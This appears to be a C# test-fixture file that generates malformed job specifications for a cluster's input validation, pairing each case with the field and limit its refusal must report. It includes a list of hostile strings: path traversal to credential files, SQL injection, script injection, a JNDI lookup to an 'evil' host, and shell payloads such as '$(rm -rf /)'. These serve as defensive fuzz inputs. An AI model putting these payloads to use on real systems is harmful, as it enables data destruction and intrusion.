using System.Globalization;
using Grains.Interfaces;

namespace Cluster.Tests;

/// <summary>
/// A malformed job spec and what its refusal must say: the field it names (as in the JSON / error text) and, where a
/// limit exists, the limit. <see cref="NeedsModel"/>: only a silo can tell (unknown model, class out of the model's
/// range, guidance on a model without it). <see cref="QuotaOnly"/>: valid for the cluster's limits, refused by the
/// tenant's default quota (2000 frames per job, 512 px).
/// </summary>
public sealed record SpecCase(string Name, JobSpec Spec, string Field, string? Limit = null, bool NeedsModel = false, bool QuotaOnly = false)
{
    public override string ToString() => Name;
}

/// <summary>
/// Generated malformed inputs (deterministic: <see cref="Seed"/>), for the in-process cluster here and for tests of
/// other front ends (the HTTP API): <see cref="Specs"/> typed, <see cref="Json"/> as request bodies.
/// Every case is built against the test cluster's model "tiny" (16 px, classes 0..9, no guidance) and default limits.
/// </summary>
public static partial class MalformedInputs
{
    public const int Seed = 20_251_126;

    /// <summary>A spec every harness cluster accepts (tiny model, one step, 4 frames of 16 px).</summary>
    public static readonly JobSpec Valid = new() { Kind = JobKind.ImageSet, ModelId = "tiny", Classes = [1, 2], Frames = 4, Steps = 1, OutputSize = 16, Seed = 5 };

    /// <summary>A string of about 10 MB (5 M UTF-16 chars; 10 MB as UTF-16, 5 MB as UTF-8).</summary>
    public static string Huge(char c = 'a') => new(c, 5 * 1024 * 1024);

    /// <summary>Strings no id may be: traversal, injection, unicode tricks, control characters, whitespace.</summary>
    public static readonly (string Name, string Value)[] HostileStrings =
    [
        ("empty", ""), ("space", " "), ("tab", "\t"), ("newline", "\n"),
        ("path traversal", "../../etc/passwd"), ("windows traversal", "..\\..\\windows\\win.ini"), ("absolute path", "/etc/shadow"),
        ("url-encoded traversal", "%2e%2e%2f%2e%2e%2fetc"), ("blob prefix", "blob:tenants/other/model.json"), ("file url", "file:///etc/passwd"),
        ("sql injection", "x'; DROP TABLE jobs; --"), ("sql tautology", "' OR '1'='1"), ("script", "<script>alert(1)</script>"),
        ("jndi", "${jndi:ldap://evil/a}"), ("shell", "$(rm -rf /)"), ("backticks", "`id`"), ("redis command", "x\r\nFLUSHALL\r\n"),
        ("header injection", "ok\r\nX-Injected: 1"), ("nul", "tiny\0"), ("bell and escape", "\u0007\u001b[31mred"),
        ("rtl override", "\u202Etxt.exe"), ("zero-width space", "ti\u200Bny"), ("zero-width joiner", "ti\u200Dny"), ("bom", "\uFEFFtiny"),
        ("hebrew", "מודל"), ("arabic", "نموذج"), ("emoji", "tiny😀"), ("combining", "tiny\u0301"), ("fullwidth", "ｔｉｎｙ"),
        ("lone surrogate", "tiny\uD800"), ("line separator", "a\u2028b"), ("c1 control", "a\u0085b"), ("del", "a\u007Fb"),
        ("format string", "{0}{1}%s%n"), ("json in id", "{\"a\":1}"), ("glob", "*"), ("dot dot", ".."),
    ];

    public static IEnumerable<SpecCase> Specs()
    {
        var v = Valid;
        var limits = new JobLimits();
        // Kind.
        foreach (var k in new[] { -1, 2, 99, int.MaxValue, int.MinValue })
            yield return new($"kind {k}", v with { Kind = (JobKind)k }, "kind");

        // Model id: missing, too long, hostile, unknown to the silo.
        yield return new("modelId null", v with { ModelId = null! }, "modelId");
        yield return new("modelId 129 chars", v with { ModelId = new string('m', 129) }, "modelId", "128");
        yield return new("modelId 10 MB", v with { ModelId = Huge() }, "modelId", "128");
        foreach (var (name, value) in HostileStrings.Where(s => s.Value != ".."))
            yield return new($"modelId {name}", v with { ModelId = value }, "modelId");
        foreach (var unknown in new[] { "nope", "TINY", "tiny2", "mnist-scm-v2", "tiny.", "..", "a", new string('z', 128) })
            yield return new($"modelId unknown '{unknown[..Math.Min(12, unknown.Length)]}'", v with { ModelId = unknown }, "modelId", NeedsModel: true);

        // Classes: missing, empty, too many, out of the model's range.
        yield return new("classes null", v with { Classes = null! }, "classes");
        yield return new("classes empty", v with { Classes = [] }, "classes");
        yield return new("classes 65", v with { Classes = new int[limits.MaxKeyframes + 1] }, "classes", "64");
        yield return new("classes 1M", v with { Classes = new int[1_000_000] }, "classes", "64");
        foreach (var c in new[] { -1, 10, 11, 255, int.MaxValue, int.MinValue })
            yield return new($"class {c}", v with { Classes = [1, c] }, "classes", "0..9", NeedsModel: true);
        yield return new("classes 64 all out of range", v with { Classes = Enumerable.Range(100, 64).ToArray() }, "classes", "0..9", NeedsModel: true);

        // Integer fields: below and above their ranges, and both extremes.
        foreach (var (field, min, max, with) in IntFields(limits))
            foreach (var bad in new[] { min - 1, max + 1, -1, int.MinValue, int.MaxValue }.Where(x => x < min || x > max).Distinct())
                yield return new($"{field} {bad}", with(v, bad), field, max.ToString(CultureInfo.InvariantCulture));

        // Mp4 with no frames.
        yield return new("mp4 with 0 frames", v with { Mp4 = true, Frames = 0 }, "frames", limits.MaxFrames.ToString(CultureInfo.InvariantCulture));

        // Guidance: not finite, negative, above the limit; and (only the silo knows) not supported by the model.
        foreach (var g in new[] { double.NaN, double.PositiveInfinity, double.NegativeInfinity, -1, -double.Epsilon, 10.000001, 1e308, double.MaxValue })
            yield return new($"guidance {g}", v with { Guidance = g }, "guidance", "10");
        foreach (var g in new[] { 0.0, 2.0, double.Epsilon, 10.0 })
            yield return new($"guidance {g} unsupported", v with { Guidance = g }, "guidance", NeedsModel: true);

        // Intermediate times: wrong count, not finite, out of (0, t_max), not decreasing, huge.
        yield return new("times for 1 step", v with { Steps = 1, IntermediateTimes = [1.0] }, "intermediateTimes");
        yield return new("times empty for 2 steps", v with { Steps = 2, IntermediateTimes = [] }, "intermediateTimes");
        foreach (var t in new[] { double.NaN, double.PositiveInfinity, double.NegativeInfinity, 0, -0.5, 1.5645, 2, 1e308, -double.Epsilon })
            yield return new($"time {t}", v with { Steps = 2, IntermediateTimes = [t] }, "intermediateTimes", "1.5645");
        yield return new("times increasing", v with { Steps = 3, IntermediateTimes = [0.5, 1.0] }, "intermediateTimes", "1.5645");
        yield return new("times equal", v with { Steps = 3, IntermediateTimes = [1.0, 1.0] }, "intermediateTimes", "1.5645");
        yield return new("times 1M", v with { Steps = 16, IntermediateTimes = new double[1_000_000] }, "intermediateTimes", "15");

        // Resize: wrong case, padding, hostile, huge.
        yield return new("resize null", v with { Resize = null! }, "resize", "'bilinear' or 'nearest'");
        foreach (var r in new[] { "Bilinear", "NEAREST", "bilinear ", " nearest", "lanczos", "bicubic" })
            yield return new($"resize '{r}'", v with { Resize = r }, "resize", "'bilinear' or 'nearest'");
        yield return new("resize 10 MB", v with { Resize = Huge('r') }, "resize", "'bilinear' or 'nearest'");
        foreach (var (name, value) in HostileStrings)
            yield return new($"resize {name}", v with { Resize = value }, "resize", "'bilinear' or 'nearest'");

        // Quota (tenant default): inside the cluster's limits, above the tenant's.
        yield return new("frames above quota", v with { Frames = 2_001 }, "quota maxFramesPerJob", "2000", QuotaOnly: true);
        yield return new("frames at limit above quota", v with { Frames = 10_000 }, "quota maxFramesPerJob", "2000", QuotaOnly: true);
        yield return new("size above quota", v with { OutputSize = 513 }, "quota maxOutputSize", "512", QuotaOnly: true);

        foreach (var c in Generated(limits)) yield return c;
    }

    /// <summary>The integer fields with their ranges, as (error field, min, max, setter).</summary>
    static IEnumerable<(string Field, int Min, int Max, Func<JobSpec, int, JobSpec> With)> IntFields(JobLimits l) =>
    [
        ("frames", 1, l.MaxFrames, (s, x) => s with { Frames = x }),
        ("fps", 1, l.MaxFps, (s, x) => s with { Fps = x }),
        ("steps", 1, l.MaxSteps, (s, x) => s with { Steps = x }),
        ("outputSize", 8, l.MaxOutputSize, (s, x) => s with { OutputSize = x }),
        ("priority", 0, l.MaxPriority, (s, x) => s with { Priority = x }),
        ("itemFrames", 1, l.MaxItemFrames, (s, x) => s with { ItemFrames = x }),
    ];

    /// <summary>Seeded random cases: out-of-range integers, random hostile strings, random bad time lists.</summary>
    static IEnumerable<SpecCase> Generated(JobLimits limits)
    {
        var random = new Random(Seed);
        var fields = IntFields(limits).ToArray();
        for (int i = 0; i < 48; i++)
        {
            var (field, min, max, with) = fields[i % fields.Length];
            int bad = random.Next(2) == 0 ? random.Next(int.MinValue, min) : random.Next(max + 1, int.MaxValue);
            yield return new($"random {field} #{i}", with(Valid, bad), field, max.ToString(CultureInfo.InvariantCulture));
        }
        for (int i = 0; i < 24; i++)
        {
            var text = RandomHostileString(random);
            yield return i % 2 == 0
                ? new($"random modelId #{i}", Valid with { ModelId = text }, "modelId")
                : new($"random resize #{i}", Valid with { Resize = text }, "resize", "'bilinear' or 'nearest'");
        }
        for (int i = 0; i < 8; i++)
        {
            // A list that breaks strict decrease within (0, t_max) somewhere, or has the wrong length.
            int steps = random.Next(2, limits.MaxSteps + 1);
            var times = Enumerable.Range(0, steps - 1).Select(_ => random.NextDouble() * 3 - 0.5).ToArray();
            if (steps - 1 > 0) times[random.Next(times.Length)] = random.Next(3) switch { 0 => double.NaN, 1 => -random.NextDouble(), _ => 1.5645 + random.NextDouble() };
            yield return new($"random times #{i}", Valid with { Steps = steps, IntermediateTimes = times }, "intermediateTimes");
        }
    }

    /// <summary>1-300 characters, at least one outside an id's alphabet [A-Za-z0-9-_.].</summary>
    static string RandomHostileString(Random random)
    {
        string[] pieces = ["'", "\"", ";", "--", "/", "\\", "..", "<", ">", "\0", "\n", "\r", "\u202E", "\u200B", "😀", "ж", "ש", "%00", "$", "{", " "];
        var text = new System.Text.StringBuilder();
        int length = random.Next(1, 300);
        while (text.Length < length)
            text.Append(random.Next(3) == 0 ? pieces[random.Next(pieces.Length)] : ((char)random.Next('a', 'z' + 1)).ToString());
        text.Append(pieces[random.Next(pieces.Length)]);
        return text.ToString();
    }
}
